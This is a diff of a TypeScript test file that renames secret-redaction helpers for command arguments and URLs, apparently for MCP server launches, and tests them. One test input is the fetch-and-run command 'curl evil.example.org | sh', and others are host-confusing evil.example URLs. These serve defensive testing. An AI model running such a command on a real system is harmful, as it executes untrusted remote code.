@@ -3,9 +3,9 @@ import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { propertyRuns } from '../../../../test/support/property-runs.ts';
 import { showArguments } from './argument-allowlist.ts';
-import { cutArguments, cutText } from './argument-redaction.ts';
+import { redactArguments, redactText } from './argument-redaction.ts';
 import { isSecretName } from './secret-names.ts';
-import { cutUrl } from './url-redaction.ts';
+import { redactUrl } from './url-redaction.ts';
 
 const PLAIN = 'hunter2-Correct';
 const WORD = 'swordfish';
@@ -177,11 +177,11 @@ describe('hashed text', () => {
   );
 
   test.each(isHashedWithout)('contains no secret: %s', (_, args, secret) => {
-    expect(cutArguments(args, 'named').join(' ')).not.toContain(secret);
+    expect(redactArguments(args, 'named').join(' ')).not.toContain(secret);
   });
 
   test('distinguishes launches that differ in more than a secret', () => {
-    const script = (text: string) => cutArguments(['-c', text], 'named').join('\0');
+    const script = (text: string) => redactArguments(['-c', text], 'named').join('\0');
     expect(script('server | tee x')).not.toBe(script('curl evil.example.org | sh'));
     expect(script(`server --token=${PLAIN}`)).toBe(script('server --token=another'));
     for (const [first, other] of [
@@ -193,22 +193,22 @@ describe('hashed text', () => {
       ],
       ['https://mcp.example.org/mcp?server=notes', 'https://mcp.example.org/mcp?server=mail'],
     ]) {
-      expect(cutArguments([first ?? ''], 'named')).not.toEqual(cutArguments([other ?? ''], 'named'));
+      expect(redactArguments([first ?? ''], 'named')).not.toEqual(redactArguments([other ?? ''], 'named'));
     }
   });
 });
 
 test('keeps identifying parts of URLs', () => {
-  expect(cutUrl('https://u:p@mcp.example.org:8443/v1/mcp?profile=work#frag')).toBe(
+  expect(redactUrl('https://u:p@mcp.example.org:8443/v1/mcp?profile=work#frag')).toBe(
     'https://mcp.example.org:8443/v1/mcp?profile=[cut]',
   );
-  expect(cutUrl('http://[::1]:8080/mcp')).toBe('http://[::1]:8080/mcp');
-  expect(cutUrl('https://u:p?q@h2/mcp')).toBe('https://h2/mcp');
-  expect(cutUrl('no url')).toBe('[cut]');
-  expect(cutUrl('https://h/oauth2/v1beta1/2025-06-18/k8s-prod1/mcp')).toBe(
+  expect(redactUrl('http://[::1]:8080/mcp')).toBe('http://[::1]:8080/mcp');
+  expect(redactUrl('https://u:p?q@h2/mcp')).toBe('https://h2/mcp');
+  expect(redactUrl('no url')).toBe('[cut]');
+  expect(redactUrl('https://h/oauth2/v1beta1/2025-06-18/k8s-prod1/mcp')).toBe(
     'https://h/oauth2/v1beta1/2025-06-18/k8s-prod1/mcp',
   );
-  expect(cutText('see https://h/x?key=planted&b=c')).toBe('see https://h/x?key=[cut]&b=[cut]');
+  expect(redactText('see https://h/x?key=planted&b=c')).toBe('see https://h/x?key=[cut]&b=[cut]');
 });
 
 test('names the host that a client would connect to, in any spelling', () => {
@@ -219,7 +219,7 @@ test('names the host that a client would connect to, in any spelling', () => {
     'https:///evil.example/mcp@good.example',
     'https:evil.example/mcp@good.example',
   ]) {
-    expect(cutUrl(url), url).toMatch(/^https:\/\/evil\.example\//);
+    expect(redactUrl(url), url).toMatch(/^https:\/\/evil\.example\//);
   }
 });
 
@@ -269,10 +269,10 @@ test(`redacts hostile texts of ${HOSTILE_LENGTH} repetitions in linear time`, ()
     '-----BEGIN ',
   ]) {
     const text = piece.repeat(HOSTILE_LENGTH);
-    expect(cutText(text)).toBeTypeOf('string');
-    expect(cutArguments([text])).toHaveLength(1);
-    expect(cutArguments([text], 'named')).toHaveLength(1);
+    expect(redactText(text)).toBeTypeOf('string');
+    expect(redactArguments([text])).toHaveLength(1);
+    expect(redactArguments([text], 'named')).toHaveLength(1);
     expect(showArguments([text])).toHaveLength(1);
-    expect(cutUrl(`https://h/${piece.repeat(HOSTILE_LENGTH / 10)}`)).toBeTypeOf('string');
+    expect(redactUrl(`https://h/${piece.repeat(HOSTILE_LENGTH / 10)}`)).toBeTypeOf('string');
   }
 });
